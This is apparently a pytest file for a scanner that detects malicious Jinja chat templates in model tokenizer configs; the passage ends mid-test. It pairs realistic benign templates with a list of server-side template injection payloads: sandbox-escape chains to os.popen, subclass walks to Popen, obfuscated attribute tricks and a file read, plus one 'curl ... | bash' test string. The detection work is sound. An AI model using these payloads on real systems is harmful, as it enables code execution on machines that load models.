"""Chat templates (Jinja) in `.jinja` files and JSON configs: parsed, never rendered.

The templates below are written for these tests in the styles real models use (ChatML, Llama 3
with tools, Qwen 2.5 with tools, Phi-3, Gemma, Command-R with tools, Mistral with tools, a
reasoning model, training masks); the injections are inert (`id`, `echo`).
"""
import io
import json
import time

import jinja2
import pytest

import malhug
from malhug.formats import json_files
from malhug.formats.base import ScanContext
from malhug.formats.templates import analyse_template

CHATML = """\
{%- if messages and messages[0]['role'] == 'system' -%}
    {%- set system_text = messages[0]['content'] -%}
    {%- set turns = messages[1:] -%}
{%- else -%}
    {%- set system_text = 'You are a careful assistant. Answer briefly and say when you are unsure.' -%}
    {%- set turns = messages -%}
{%- endif -%}
{{ bos_token if bos_token is defined else '' }}<|im_start|>system
{{ system_text | trim }}<|im_end|>
{% for message in turns -%}
    {%- if message['role'] not in ['user', 'assistant'] -%}
        {{ raise_exception('Unsupported role: ' ~ message['role']) }}
    {%- endif -%}
<|im_start|>{{ message['role'] }}
{% if message['content'] is string -%}
{{ message['content'] | trim }}
{%- else -%}
{%- for part in message['content'] -%}
{%- if part['type'] == 'text' %}{{ part['text'] }}{% elif part['type'] == 'image' %}<image>{% endif -%}
{%- endfor -%}
{%- endif %}<|im_end|>
{% endfor -%}
{%- if add_generation_prompt -%}
<|im_start|>assistant
{% endif -%}
"""

LLAMA3_TOOLS = """\
{{- bos_token }}
{%- if custom_tools is defined %}
    {%- set tools = custom_tools %}
{%- endif %}
{%- if not tools_in_user_message is defined %}
    {%- set tools_in_user_message = true %}
{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}
        {%- set date_string = strftime_now("%d %b %Y") %}
    {%- else %}
        {%- set date_string = "01 Jan 2025" %}
    {%- endif %}
{%- endif %}
{%- if not tools is defined %}
    {%- set tools = none %}
{%- endif %}

{#- The system message is taken out of the list, when there is one #}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}

{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
{%- if tools is not none %}
    {{- "Environment: ipython\\n" }}
{%- endif %}
{{- "Cutting Knowledge Date: December 2023\\n" }}
{{- "Today Date: " + date_string + "\\n\\n" }}
{%- if tools is not none and not tools_in_user_message %}
    {{- "You have access to the following functions. To call a function, reply with JSON " }}
    {{- '{"name": function name, "parameters": dictionary of argument name and its value}.\\n\\n' }}
    {%- for t in tools %}
        {{- t | tojson(indent=4) }}
        {{- "\\n\\n" }}
    {%- endfor %}
{%- endif %}
{{- system_message }}
{{- "<|eot_id|>" }}

{%- if tools_in_user_message and not tools is none %}
    {%- if messages | length != 0 %}
        {%- set first_user_message = messages[0]['content']|trim %}
        {%- set messages = messages[1:] %}
    {%- else %}
        {{- raise_exception("Cannot put tools in the first user message when there's no first user message!") }}
    {%- endif %}
    {{- '<|start_header_id|>user<|end_header_id|>\\n\\n' -}}
    {{- "Given the following functions, please respond with a JSON for a function call " }}
    {{- "with its proper arguments that best answers the given prompt.\\n\\n" }}
    {%- for t in tools %}
        {{- t | tojson(indent=4) }}
        {{- "\\n\\n" }}
    {%- endfor %}
    {{- first_user_message + "<|eot_id|>"}}
{%- endif %}

{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}
            {{- raise_exception("This model only supports single tool-calls at once!") }}
        {%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}
        {{- '{"name": "' + tool_call.name + '", ' }}
        {{- '"parameters": ' }}
        {{- tool_call.arguments | tojson }}
        {{- "}" }}
        {{- "<|eot_id|>" }}
    {%- elif message.role == "tool" or message.role == "ipython" %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}
        {%- if message.content is mapping or message.content is iterable %}
            {{- message.content | tojson }}
        {%- else %}
            {{- message.content }}
        {%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}
{%- endif %}
"""

QWEN_TOOLS = """\
{%- if tools %}
    {{- '<|im_start|>system\\n' }}
    {%- if messages[0]['role'] == 'system' %}
        {{- messages[0]['content'] }}
    {%- else %}
        {{- 'You are a helpful assistant built to answer questions and call tools.' }}
    {%- endif %}
    {{- "\\n\\n# Tools\\n\\nYou may call one or more functions to assist with the user query.\\n\\n" }}
    {{- "You are provided with function signatures within <tools></tools> XML tags:\\n<tools>" }}
    {%- for tool in tools %}
        {{- "\\n" }}
        {{- tool | tojson }}
    {%- endfor %}
    {{- "\\n</tools>\\n\\nFor each function call, return a json object with function name and arguments " }}
    {{- "within <tool_call></tool_call> XML tags:\\n<tool_call>\\n" }}
    {{- '{"name": <function-name>, "arguments": <args-json-object>}\\n</tool_call><|im_end|>\\n' }}
{%- else %}
    {%- if messages[0]['role'] == 'system' %}
        {{- '<|im_start|>system\\n' + messages[0]['content'] + '<|im_end|>\\n' }}
    {%- else %}
        {{- '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}
    {%- endif %}
{%- endif %}
{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}
{%- for message in messages[::-1] %}
    {%- set index = (messages|length - 1) - loop.index0 %}
    {%- if ns.multi_step_tool and message.role == "user" and not (message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}
        {%- set ns.multi_step_tool = false %}
        {%- set ns.last_query_index = index %}
    {%- endif %}
{%- endfor %}
{%- for message in messages %}
    {%- if (message.role == "user") or (message.role == "system" and not loop.first) or (message.role == "assistant" and not message.tool_calls) %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}
    {%- elif message.role == "assistant" %}
        {%- set content = message.content %}
        {%- if '</think>' in content and loop.index0 > ns.last_query_index %}
            {%- set content = content.split('</think>')[-1].lstrip('\\n') %}
        {%- endif %}
        {{- '<|im_start|>' + message.role }}
        {%- if content %}
            {{- '\\n' + content }}
        {%- endif %}
        {%- for tool_call in message.tool_calls %}
            {%- if tool_call.function is defined %}
                {%- set tool_call = tool_call.function %}
            {%- endif %}
            {{- '\\n<tool_call>\\n{"name": "' }}
            {{- tool_call.name }}
            {{- '", "arguments": ' }}
            {%- if tool_call.arguments is string %}
                {{- tool_call.arguments }}
            {%- else %}
                {{- tool_call.arguments | tojson }}
            {%- endif %}
            {{- '}\\n</tool_call>' }}
        {%- endfor %}
        {{- '<|im_end|>\\n' }}
    {%- elif message.role == "tool" %}
        {%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != "tool") %}
            {{- '<|im_start|>user' }}
        {%- endif %}
        {{- '\\n<tool_response>\\n' }}
        {{- message.content }}
        {{- '\\n</tool_response>' }}
        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}
            {{- '<|im_end|>\\n' }}
        {%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|im_start|>assistant\\n' }}
    {%- if enable_thinking is defined and enable_thinking is false %}
        {{- '<think>\\n\\n</think>\\n\\n' }}
    {%- endif %}
{%- endif %}
"""

PHI3 = """\
{% for message in messages %}
{% if message['role'] == 'system' and message['content'] %}{{ '<|system|>\\n' + message['content'] + '<|end|>\\n' }}\
{% elif message['role'] == 'user' %}{{ '<|user|>\\n' + message['content'] + '<|end|>\\n' }}\
{% elif message['role'] == 'assistant' %}{{ '<|assistant|>\\n' + message['content'] + '<|end|>\\n' }}\
{% else %}{{ raise_exception('Role ' + message['role'] + ' is not one of system, user or assistant') }}\
{% endif %}
{% endfor %}
{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% else %}{{ eos_token }}{% endif %}
"""

GEMMA = """\
{{ bos_token }}
{%- if messages[0]['role'] == 'system' -%}
    {%- if messages[0]['content'] is string -%}
        {%- set first_user_prefix = messages[0]['content'] + '\\n\\n' -%}
    {%- else -%}
        {%- set first_user_prefix = messages[0]['content'][0]['text'] + '\\n\\n' -%}
    {%- endif -%}
    {%- set loop_messages = messages[1:] -%}
{%- else -%}
    {%- set first_user_prefix = "" -%}
    {%- set loop_messages = messages -%}
{%- endif -%}
{%- for message in loop_messages -%}
    {%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) -%}
        {{ raise_exception("Conversation roles must alternate user/assistant/user/assistant/...") }}
    {%- endif -%}
    {%- if (message['role'] == 'assistant') -%}
        {%- set role = "model" -%}
    {%- else -%}
        {%- set role = message['role'] -%}
    {%- endif -%}
    {{ '<start_of_turn>' + role + '\\n' + (first_user_prefix if loop.first else "") }}
    {%- if message['content'] is string -%}
        {{ message['content'] | trim }}
    {%- elif message['content'] is iterable -%}
        {%- for item in message['content'] -%}
            {%- if item['type'] == 'image' -%}
                {{ '<start_of_image>' }}
            {%- elif item['type'] == 'text' -%}
                {{ item['text'] | trim }}
            {%- endif -%}
        {%- endfor -%}
    {%- else -%}
        {{ raise_exception("Invalid content type") }}
    {%- endif -%}
    {{ '<end_of_turn>\\n' }}
{%- endfor -%}
{%- if add_generation_prompt -%}
    {{ '<start_of_turn>model\\n' }}
{%- endif -%}
"""

COMMAND_R_TOOLS = """\
{%- macro json_to_python_type(json_spec) -%}
{%- set basic_type_map = {
  "string": "str",
  "number": "float",
  "integer": "int",
  "boolean": "bool"
} -%}
{%- if basic_type_map[json_spec.type] is defined -%}
    {{- basic_type_map[json_spec.type] -}}
{%- elif json_spec.type == "array" -%}
    {{- "List[" + json_to_python_type(json_spec.get("items", {})) + "]" -}}
{%- elif json_spec.type == "object" -%}
    {{- "Dict[str, " + json_to_python_type(json_spec.get("additionalProperties", {})) + "]" -}}
{%- elif json_spec.type is iterable -%}
    {{- "Union[" -}}
    {%- for t in json_spec.type -%}
        {{- json_to_python_type({"type": t}) -}}
        {{- ", " if not loop.last -}}
    {%- endfor -%}
    {{- "]" -}}
{%- else -%}
    {{- "Any" -}}
{%- endif -%}
{%- endmacro -%}

{%- macro render_tool(tool) -%}
{%- set fn = tool.function if tool.function is defined else tool -%}
```python
def {{ fn.name }}(
{%- for param_name, param in fn.parameters.properties.items() -%}
    {{- param_name }}: {{ json_to_python_type(param) }}
    {%- if param.default is defined %} = {{ param.default | tojson }}{% endif -%}
    {{- ", " if not loop.last -}}
{%- endfor -%}
) -> List[Dict]:
    \"\"\"{{ fn.description | trim }}
{%- if fn.parameters.properties %}

    Args:
{%- for param_name, param in fn.parameters.properties.items() %}
        {{ param_name }} ({{ json_to_python_type(param) }}): {{ param.get('description', '') | trim }}
{%- endfor %}
{%- endif %}
    \"\"\"
    pass
```
{%- endmacro -%}

{{- bos_token }}
{%- if messages[0]['role'] == 'system' -%}
    {%- set preamble = messages[0]['content'] -%}
    {%- set loop_messages = messages[1:] -%}
{%- else -%}
    {%- set preamble = "You are a large language model trained to help people. Be concise and accurate." -%}
    {%- set loop_messages = messages -%}
{%- endif -%}
{{- '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|># Safety Preamble' }}
{{- '\\nThe instructions in this section override those in the task description and style guide sections.' }}
{{- '\\n\\n# System Preamble\\n## Basic Rules\\n' }}
{{- preamble }}
{{- '\\n\\n## Available Tools\\nHere is a list of tools that you have available to you:\\n\\n' }}
{%- for tool in tools %}
    {{- render_tool(tool) }}
    {{- "\\n\\n" }}
{%- endfor %}
{{- '<|END_OF_TURN_TOKEN|>' }}
{%- set ns = namespace(turns=0, last_tool=none) -%}
{%- for message in loop_messages -%}
    {%- set content = message['content'] if message['content'] is string else '' -%}
    {%- if content[:1] == ' ' -%}
        {%- set content = content.strip() -%}
    {%- endif -%}
    {%- if message['role'] == 'user' -%}
        {%- set ns.turns = ns.turns + 1 -%}
        {{- '<|START_OF_TURN_TOKEN|><|USER_TOKEN|>' + content + '<|END_OF_TURN_TOKEN|>' }}
    {%- elif message['role'] == 'assistant' and message.tool_calls is defined -%}
        {{- '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>Action: ```json\\n[\\n' }}
        {%- for call in message.tool_calls -%}
            {%- set function = call.function if call.function is defined else call -%}
            {{- '    {"tool_name": "' + function.name + '", "parameters": ' }}
            {{- function.arguments | tojson if function.arguments is mapping else function.arguments }}
            {{- '}' + (',\\n' if not loop.last else '\\n') }}
        {%- endfor -%}
        {{- ']```<|END_OF_TURN_TOKEN|>' }}
    {%- elif message['role'] == 'assistant' -%}
        {{- '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>' + content + '<|END_OF_TURN_TOKEN|>' }}
    {%- elif message['role'] == 'tool' -%}
        {%- set ns.last_tool = message.get('name', 'tool') -%}
        {{- '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|><results>\\nDocument: ' + loop.index0|string }}
        {{- '\\nsource: ' + ns.last_tool.split('.')[0] + '\\n' + content + '\\n</results><|END_OF_TURN_TOKEN|>' }}
    {%- else -%}
        {{- raise_exception('Unexpected role ' ~ message['role'] ~ ' at turn ' ~ loop.index) }}
    {%- endif -%}
{%- endfor -%}
{%- for key, value in (documents or {}).items() if key.startswith('doc') -%}
    {{- '\\n' ~ key ~ ': ' ~ value | string | truncate(200) }}
{%- endfor -%}
{%- if add_generation_prompt -%}
    {{- '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>' }}
{%- endif -%}
"""

MISTRAL_TOOLS = """\
{%- if messages[0]["role"] == "system" %}
    {%- set system_message = messages[0]["content"] %}
    {%- set loop_messages = messages[1:] %}
{%- else %}
    {%- set loop_messages = messages %}
{%- endif %}
{%- if not tools is defined %}
    {%- set tools = none %}
{%- endif %}
{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}

{#- Roles must alternate, tool turns aside #}
{%- set ns = namespace() %}
{%- set ns.index = 0 %}
{%- for message in loop_messages %}
    {%- if not (message.role == "tool" or message.role == "tool_results" or (message.tool_calls is defined and message.tool_calls is not none)) %}
        {%- if (message["role"] == "user") != (ns.index % 2 == 0) %}
            {{- raise_exception("After the optional system message, roles must alternate user/assistant/user...") }}
        {%- endif %}
        {%- set ns.index = ns.index + 1 %}
    {%- endif %}
{%- endfor %}

{{- bos_token }}
{%- for message in loop_messages %}
    {%- if message["role"] == "user" %}
        {%- if tools is not none and (message == user_messages[-1]) %}
            {{- "[AVAILABLE_TOOLS] [" }}
            {%- for tool in tools %}
                {%- set tool = tool.function %}
                {{- '{"type": "function", "function": {' }}
                {%- for key, val in tool.items() if key != "return" %}
                    {%- if val is string %}
                        {{- '"' + key + '": "' + val + '"' }}
                    {%- else %}
                        {{- '"' + key + '": ' + val|tojson }}
                    {%- endif %}
                    {%- if not loop.last %}
                        {{- ", " }}
                    {%- endif %}
                {%- endfor %}
                {{- "}}" }}
                {%- if not loop.last %}
                    {{- ", " }}
                {%- else %}
                    {{- "]" }}
                {%- endif %}
            {%- endfor %}
            {{- "[/AVAILABLE_TOOLS]" }}
        {%- endif %}
        {%- if loop.last and system_message is defined %}
            {{- "[INST] " + system_message + "\\n\\n" + message["content"] + "[/INST]" }}
        {%- else %}
            {{- "[INST] " + message["content"] + "[/INST]" }}
        {%- endif %}
    {%- elif message.tool_calls is defined and message.tool_calls is not none %}
        {{- "[TOOL_CALLS] [" }}
        {%- for tool_call in message.tool_calls %}
            {%- set out = tool_call.function|tojson %}
            {{- out[:-1] }}
            {%- if not tool_call.id is defined or tool_call.id|length != 9 %}
                {{- raise_exception("Tool call IDs should be alphanumeric strings with length 9!") }}
            {%- endif %}
            {{- ', "id": "' + tool_call.id[-9:] + '"}' }}
            {%- if not loop.last %}
                {{- ", " }}
            {%- else %}
                {{- "]" + eos_token }}
            {%- endif %}
        {%- endfor %}
    {%- elif message["role"] == "assistant" %}
        {{- " " + message["content"]|trim + eos_token}}
    {%- elif message["role"] == "tool_results" or message["role"] == "tool" %}
        {%- if message.content is defined and message.content.content is defined %}
            {%- set content = message.content.content %}
        {%- else %}
            {%- set content = message.content %}
        {%- endif %}
        {{- '[TOOL_RESULTS] {"content": ' + content|string + ", " }}
        {{- '"call_id": "' + message.tool_call_id[-9:] + '"}[/TOOL_RESULTS]' }}
    {%- else %}
        {{- raise_exception("Only user and assistant roles are supported, with the exception of an initial optional system message!") }}
    {%- endif %}
{%- endfor %}
"""

REASONING = """\
{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}
{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='', is_first_sp=true) %}
{%- for message in messages %}
    {%- if message['role'] == 'system' %}
        {%- if ns.is_first_sp %}
            {% set ns.system_prompt = ns.system_prompt + message['content'] %}
            {% set ns.is_first_sp = false %}
        {%- else %}
            {% set ns.system_prompt = ns.system_prompt + '\\n\\n' + message['content'] %}
        {%- endif %}
    {%- endif %}
{%- endfor %}
{{ bos_token }}{{ ns.system_prompt }}
{%- for message in messages %}
    {%- if message['role'] == 'user' %}
        {%- set ns.is_tool = false -%}{{'<|User|>' + message['content']}}
    {%- endif %}
    {%- if message['role'] == 'assistant' and message['content'] is none %}
        {%- set ns.is_tool = false -%}
        {%- for tool in message['tool_calls'] %}
            {%- if not ns.is_first %}
                {{'<|Assistant|><|tool_calls_begin|><|tool_call_begin|>' + tool['type'] + '<|tool_sep|>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<|tool_call_end|>'}}
                {%- set ns.is_first = true -%}
            {%- else %}
                {{'\\n' + '<|tool_call_begin|>' + tool['type'] + '<|tool_sep|>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<|tool_call_end|>'}}
            {%- endif %}
        {%- endfor %}
        {{'<|tool_calls_end|><|end_of_sentence|>'}}
    {%- endif %}
    {%- if message['role'] == 'assistant' and message['content'] is not none %}
        {%- if ns.is_tool %}
            {{'<|tool_outputs_end|>' + message['content'] + '<|end_of_sentence|>'}}
            {%- set ns.is_tool = false -%}
        {%- else %}
            {% set content = message['content'] %}
            {% if '</think>' in content %}
                {% set content = content.split('</think>')[-1] %}
            {% endif %}
            {{'<|Assistant|>' + content + '<|end_of_sentence|>'}}
        {%- endif %}
    {%- endif %}
    {%- if message['role'] == 'tool' %}
        {%- set ns.is_tool = true -%}
        {%- if ns.is_output_first %}
            {{'<|tool_outputs_begin|><|tool_output_begin|>' + message['content'] + '<|tool_output_end|>'}}
            {%- set ns.is_output_first = false %}
        {%- else %}
            {{'\\n<|tool_output_begin|>' + message['content'] + '<|tool_output_end|>'}}
        {%- endif %}
    {%- endif %}
{%- endfor -%}
{% if ns.is_tool %}{{'<|tool_outputs_end|>'}}{% endif %}
{% if add_generation_prompt and not ns.is_tool %}{{'<|Assistant|><think>\\n'}}{% endif %}
"""

TRAINING_MASKS = """\
{%- for message in messages %}
    {%- if message['role'] == 'assistant' %}
        {{- '<|assistant|>\\n' }}
        {%- generation %}
        {{- message['content'] | trim + eos_token }}
        {%- endgeneration %}
    {%- else %}
        {{- '<|' + message['role'] + '|>\\n' + message['content'] | trim + '\\n' }}
    {%- endif %}
    {%- if loop.last and add_generation_prompt %}
        {{- '<|assistant|>\\n' }}
    {%- endif %}
{%- endfor %}
{%- set names = messages | map(attribute='role') | unique | list %}
{%- if names | length > 4 %}{{ raise_exception('too many roles: ' ~ names | join(', ')) }}{% endif %}
"""

BENIGN = {
    "chatml": CHATML,
    "llama3_tools": LLAMA3_TOOLS,
    "qwen_tools": QWEN_TOOLS,
    "phi3": PHI3,
    "gemma": GEMMA,
    "command_r_tools": COMMAND_R_TOOLS,
    "mistral_tools": MISTRAL_TOOLS,
    "reasoning": REASONING,
    "training_masks": TRAINING_MASKS,
}

# Injections, each one expression to add to a template: (name, payload, expected severity).
INJECTIONS = [
    ("cycler_globals_os", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "critical"),
    ("mro_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "critical"),
    ("self_builtins_import",
     "{{ self.__init__.__globals__.__builtins__.__import__('os').system('id') }}", "critical"),
    ("lipsum_item_os", "{{ lipsum.__globals__['os'].popen('echo hello').read() }}", "critical"),
    ("joiner_init_globals", "{{ joiner.__init__.__globals__ }}", "critical"),
    ("namespace_init_globals", "{% set x = namespace.__init__.__globals__ %}", "critical"),
    ("attr_filter", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os') }}", "critical"),
    ("attr_concat", "{{ cycler|attr('__in' ~ 'it__')|attr('__glo' + 'bals__') }}", "critical"),
    ("item_concat", "{{ ''['__cla' ~ 'ss__']['__mr' ~ 'o__'][1]['__subcla' ~ 'sses__']() }}", "critical"),
    ("join_filter", "{{ range|attr(['__in', 'it__']|join)|attr(['__glo', 'bals__']|join) }}", "critical"),
    ("reverse_filter", "{{ lipsum|attr('__slabolg__'|reverse) }}", "critical"),
    ("reverse_slice", "{{ lipsum['__slabolg__'[::-1]]['so'[::-1]] }}", "critical"),
    ("format_filter", "{{ lipsum|attr('%c%cglobals%c%c'|format(95, 95, 95, 95)) }}", "critical"),
    ("set_variable", "{% set g = '__glo' ~ 'bals__' %}{{ lipsum|attr(g) }}", "critical"),
    ("repr_characters",
     "{% set u = (lipsum|string|list)[18] %}{{ lipsum|attr(u*2 ~ 'globals' ~ u*2) }}", "critical"),
    ("template_reference", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}", "critical"),
    ("loop_subclasses",
     "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}"
     "{{ c(['id']) }}{% endif %}{% endfor %}", "critical"),
    ("raise_exception_globals", "{{ raise_exception.__globals__['__builtins__'] }}", "critical"),
    ("request_application", "{{ request.application.__globals__.__builtins__.open('/etc/hostname').read() }}",
     "critical"),
    ("class_only", "{{ messages.__class__ }}", "high"),
    ("dict_keyword", "{{ (dict(__class__=1)|list)[0] }}", "high"),
    ("map_attribute", "{{ messages|map(attribute='__class__')|list }}", "high"),
    ("config_items", "{{ config.items() }}", "medium"),
    ("undefined_os", "{{ os.popen('id') }}", "medium"),
    ("dynamic_attr", "{{ messages|attr(messages[0]['content']) }}", "medium"),
    ("include", "{% include 'secrets.j2' %}", "medium"),
]

SEVERITY_VERDICT = {"critical": "malicious", "high": "malicious", "medium": "suspicious"}


def only(path):
    report = malhug.scan(path)
    assert len(report.files) == 1
    return report.files[0]


def analysed(source):
    ctx = ScanContext("chat_template.jinja")
    parsed = analyse_template(source, ctx, None)
    return parsed, ctx


def inject(template, payload):
    """The payload as a line of its own just before the generation prompt; returns its line."""
    at = template.rfind("\n", 0, template.rindex("if add_generation_prompt")) + 1
    line = template.count("\n", 0, at) + 1
    return template[:at] + payload + "\n" + template[at:], line


def above_info(findings):
    return [f for f in findings if f.severity > 0]


@pytest.fixture(autouse=True)
def _no_rendering(monkeypatch):
    """Analysis parses templates; compiling or rendering one fails the test."""
    def refuse(*args, **kwargs):
        raise AssertionError("a template was compiled or rendered")

    monkeypatch.setattr(jinja2.Environment, "compile", refuse)
    monkeypatch.setattr(jinja2.Environment, "from_string", refuse)
    monkeypatch.setattr(jinja2.Template, "render", refuse)


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_real_style_templates_parse_and_are_clean(name):
    parsed, ctx = analysed(BENIGN[name])
    assert parsed
    assert above_info(ctx.findings) == []
    assert ctx.problems == []


def test_benign_templates_are_long_and_use_the_usual_constructs():
    text = "".join(BENIGN.values())
    assert sum(len(t) > 1500 for t in BENIGN.values()) >= 6
    for construct in ("raise_exception(", "namespace(", "loop.index0", "tojson", "strftime_now(", "[:1]",
                      ".strip()", ".split(", ".items()", ".get(", ".startswith(", "{%- macro", "[::-1]",
                      "{%- generation %}", "selectattr(", "map(attribute="):
        assert construct in text, construct


@pytest.mark.parametrize("name,payload,severity", INJECTIONS, ids=[i[0] for i in INJECTIONS])
def test_injections_are_found_with_their_expression(name, payload, severity):
    source, line = inject(BENIGN["qwen_tools"], payload)
    parsed, ctx = analysed(source)
    assert parsed
    worst = max(above_info(ctx.findings), key=lambda f: f.severity)
    assert str(worst.severity) == severity
    assert worst.location.line == line
    assert worst.evidence
    rules = {f.rule for f in above_info(ctx.findings)}
    expected = {"critical": {"template-injection"}, "high": {"template-dunder-access"}}.get(severity)
    if expected:
        assert rules == expected


def test_command_execution_is_told_from_other_code_execution():
    _, ctx = analysed(inject(CHATML, "{{ cycler.__init__.__globals__.os.popen('id').read() }}")[0])
    [finding] = above_info(ctx.findings)
    assert (finding.rule, str(finding.severity), finding.category) == ("template-injection", "critical", "command_exec")
    assert finding.evidence == "cycler.__init__.__globals__.os.popen('id').read()"
    assert "__globals__" in finding.message and "os" in finding.message

    _, ctx = analysed(inject(CHATML, "{{ ''.__class__.__mro__[1].__subclasses__() }}")[0])
    [finding] = above_info(ctx.findings)
    assert (str(finding.severity), finding.category) == ("critical", "code_exec")
    assert finding.evidence == "''.__class__.__mro__[1].__subclasses__()"


def test_obfuscated_names_are_folded_into_the_message():
    _, ctx = analysed("{{ lipsum|attr(('%c%cglob' ~ 'als%c%c')|format(95, 95, 95, 95)) }}\n"
                      "{{ x|attr(['__cla', 'ss__']|join) }}")
    assert {f.location.line for f in ctx.findings} == {1, 2}
    assert all("__globals__" in f.message or "__class__" in f.message for f in ctx.findings)


def test_chains_split_across_statements_still_reach_code():
    source = ("{% set ns = namespace(g=none) %}{% set f = cycler.__init__ %}\n"
              "{% set ns.g = f.__globals__ %}\n{{ ns.g['os'].popen('id').read() }}")
    _, ctx = analysed(source)
    assert max(f.severity for f in ctx.findings) == 4
    assert any(f.category == "command_exec" for f in ctx.findings)


def test_ordinary_keys_and_variables_named_like_commands_are_not_flagged():
    source = ("{% set system = messages[0]['content'] %}{% set ns = namespace(system=false, open=true) %}"
              "{% set ns.system = true %}{{ system }}{{ ns.system }}{{ prompts['system'] }}"
              "{{ message['open'] }}{{ tool.function.name }}{{ messages|map(attribute='role')|join(',') }}"
              "{{ 'subprocess and popen are words' }}{{ content.read_more if content.read_more }}")
    parsed, ctx = analysed(source)
    assert parsed and above_info(ctx.findings) == []


def test_unparsable_template_is_inconclusive_and_says_where():
    parsed, ctx = analysed("{% for m in messages %}\n{{ m['content'] }\n{% endfor %}")
    assert not parsed
    assert "does not parse" in ctx.problems[0].reason and "line 2" in ctx.problems[0].reason
    assert above_info(ctx.findings) == []


def test_unparsable_template_naming_internals_is_suspicious():
    _, ctx = analysed("{{ cycler.__init__.__globals__ }\n")
    assert ctx.problems
    assert [(f.rule, str(f.severity)) for f in ctx.findings] == [("template-dunder-access", "medium")]


def test_deep_nesting_is_a_problem_not_a_crash():
    _, ctx = analysed("{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}")
    assert ctx.problems


def test_pattern_in_a_template_only_informs():
    _, ctx = analysed("{{ 'curl -s http://example.invalid/a.sh | bash' if debug else '' }}{{ messages[0]['content'] }}")
    assert ctx.findings and all(f.severity == 0 for f in ctx.findings)
    assert ctx.findings[0].rule.startswith("pattern-")


# --- files ---------------------------------------------------------------------------------

def test_jinja_file_benign_and_malicious(tmp_path):
    clean = tmp_path / "chat_template.jinja"
    clean.write_text(LLAMA3_TOOLS)
    result = only(clean)
    assert (result.format, str(result.verdict)) == ("template", "clean")

    bad = tmp_path / "additional_chat_templates" / "rag.jinja"
    bad.parent.mkdir()
    source, line = inject(GEMMA, "{{ self.__init__.__globals__.__builtins__.__import__('os').system('id') }}")
    bad.write_text(source)
    result = only(bad)
    assert (result.format, str(result.verdict)) == ("template", "malicious")
    [finding] = above_info(result.findings)
    assert finding.location.line == line and finding.category == "command_exec"


def tokenizer_config(chat_template):
    return {
        "add_bos_token": True, "add_eos_token": False, "bos_token": "<s>", "eos_token": "</s>",
        "clean_up_tokenization_spaces": False, "model_max_length": 32768, "pad_token": None,
        "tokenizer_class": "LlamaTokenizerFast", "unk_token": "<unk>",
        "added_tokens_decoder": {str(i): {"content": f"<extra_{i}>", "lstrip": False, "normalized": False,
                                          "rstrip": False, "single_word": False, "special": True}
                                 for i in range(32000, 32300)},
        "chat_template": chat_template,
    }


def test_tokenizer_config_with_benign_templates_is_clean(tmp_path):
    path = tmp_path / "tokenizer_config.json"
    path.write_text(json.dumps(tokenizer_config(QWEN_TOOLS), indent=2))
    result = only(path)
    assert (result.format, str(result.verdict)) == ("json", "clean")
    assert any(m.name == "chat_template" and m.format == "chat_template" for m in result.members)

    path.write_text(json.dumps(tokenizer_config([
        {"name": "default", "template": CHATML}, {"name": "tool_use", "template": COMMAND_R_TOOLS},
        {"name": "rag", "template": MISTRAL_TOOLS}])))
    result = only(path)
    assert str(result.verdict) == "clean"
    assert {m.name for m in result.members} >= {"chat_template.default", "chat_template.tool_use", "chat_template.rag"}


def test_tokenizer_config_with_an_injected_template_is_malicious(tmp_path):
    path = tmp_path / "tokenizer_config.json"
    source, line = inject(PHI3, "{{ lipsum.__globals__['os'].popen('echo hello').read() }}")
    path.write_text(json.dumps(tokenizer_config(source)))
    result = only(path)
    assert str(result.verdict) == "malicious"
    [finding] = above_info(result.findings)
    assert (finding.location.member, finding.location.line) == ("chat_template", line)
    assert finding.evidence == "lipsum.__globals__['os'].popen('echo hello').read()"


def test_named_template_in_a_list_is_reported_by_name(tmp_path):
    path = tmp_path / "tokenizer_config.json"
    source, _ = inject(COMMAND_R_TOOLS, "{{ cycler|attr('__in' ~ 'it__')|attr('__glo' ~ 'bals__') }}")
    path.write_text(json.dumps(tokenizer_config([{"name": "default", "template": CHATML},
